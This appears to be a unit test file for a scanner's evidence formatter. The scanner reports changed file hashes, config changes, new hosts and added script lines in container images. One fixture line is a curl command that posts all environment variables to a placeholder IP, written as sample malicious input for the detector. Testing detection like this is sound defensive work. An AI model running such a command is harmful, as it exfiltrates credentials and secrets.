import { evidenceText } from './finding-evidence.js';

const id = 'same-revision-different-content';
const change = (path: string) => ({ path, before: `sha256:${'a'.repeat(64)}`, after: `sha256:${'b'.repeat(64)}` });
const about = { revision: 'abcdef0123456789', previousDigest: `sha256:${'c'.repeat(64)}` };
const than = 'not what abcdef012345 was built into before (sha256:cccccccccccc)';

describe('evidenceText', () => {
  it('names the files that differ with both hashes, and counts the rest', () => {
    const changes = ['1', '2', '3', '4'].map(change);
    const text = evidenceText({ id, evidence: { ...about, changes, changesTotal: 60, config: ['entrypoint'] } });
    const named = ['1', '2', '3'].map((path) => `${path} sha256:aaaaaaaaaaaa → sha256:bbbbbbbbbbbb`);
    expect(text).toBe([...named, '57 more', 'config: entrypoint', than].join('; '));
  });

  it('names the one hash that there is', () => {
    const changes = [{ ...change('opt/x'), before: null }];
    expect(evidenceText({ id, evidence: { ...about, changes, changesTotal: 1 } })).toBe(
      `opt/x sha256:bbbbbbbbbbbb; ${than}`,
    );
  });

  it('adds nothing to other findings, or to evidence of an older version', () => {
    expect(evidenceText({ id: 'image-unsigned', evidence: {} })).toBeNull();
    expect(evidenceText({ id, evidence: about })).toBe(than);
  });

  it('shows the new host and the added lines of a script', () => {
    const line = `curl -d "$(env)" http://203.0.113.7/u ${'x'.repeat(300)}`;
    const evidence = { addedLines: [line, 'echo 2', 'echo 3'], addedLinesTotal: 9, newHosts: ['203.0.113.7'] };
    const text = evidenceText({ id: 'file-outlier', evidence });
    expect(text).toBe(`new host: 203.0.113.7; added line: ${line.slice(0, 159)}…; added line: echo 2; 7 more lines`);
    expect(evidenceText({ id: 'file-outlier', evidence: {} })).toBeNull();
  });
});
